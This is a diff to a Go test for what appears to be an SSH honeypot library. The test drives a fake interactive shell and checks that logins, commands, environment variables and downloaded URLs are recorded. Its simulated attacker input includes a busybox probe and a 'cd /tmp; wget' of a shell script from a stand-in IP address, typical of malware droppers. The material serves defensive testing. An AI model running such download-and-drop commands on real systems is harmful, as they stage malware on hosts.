@@ -102,20 +102,47 @@ func TestLibraryAccept(t *testing.T) {
 		t.Fatal(err)
 	}
 	_ = s.Setenv("LANG", "C")
-	if err := s.Run("cat /proc/cpuinfo"); err != nil {
-		t.Errorf("exec: %v", err)
+	out, err := s.Output("cat /proc/cpuinfo")
+	if err != nil || !strings.Contains(string(out), "model name") {
+		t.Errorf("exec: %v %q", err, out)
+	}
+	// an interactive shell with a pty: each line recorded, URL included
+	s, err = c.NewSession()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := s.RequestPty("xterm", 24, 80, xssh.TerminalModes{}); err != nil {
+		t.Fatal(err)
+	}
+	in, _ := s.StdinPipe()
+	var sout strings.Builder
+	s.Stdout = &sout
+	if err := s.Shell(); err != nil {
+		t.Fatal(err)
+	}
+	_, _ = in.Write([]byte("uname -m\r/bin/busybox XYZZY\rcd /tmp; wget http://203.0.113.5/b.sh\rexit\r"))
+	if err := s.Wait(); err != nil {
+		t.Errorf("shell: %v", err)
+	}
+	for _, want := range []string{"admin@localhost:~$ uname -m\r\nx86_64\r\n", "XYZZY: applet not found\r\n", "wget: can't connect"} {
+		if !strings.Contains(sout.String(), want) {
+			t.Errorf("shell output lacks %q: %q", want, sout.String())
+		}
 	}
 	c.Close()
-	var accepted, command, env bool
+	var accepted, command, env, url bool
 	recs.Wait(func(all []map[string]any) bool {
 		for _, r := range all {
 			accepted = accepted || r["accepted"] == true && r["password"] == "second"
 			command = command || r["command"] == "cat /proc/cpuinfo"
 			env = env || r["env"] == "LANG=C"
+			if u, ok := r["urls"].([]string); ok && len(u) == 1 && u[0] == "http://203.0.113.5/b.sh" {
+				url = true
+			}
 		}
-		return accepted && command && env
+		return accepted && command && env && url
 	})
-	if !accepted || !command || !env {
-		t.Errorf("accepted %v command %v env %v: %v", accepted, command, env, recs.All())
+	if !accepted || !command || !env || !url {
+		t.Errorf("accepted %v command %v env %v url %v: %v", accepted, command, env, url, recs.All())
 	}
 }
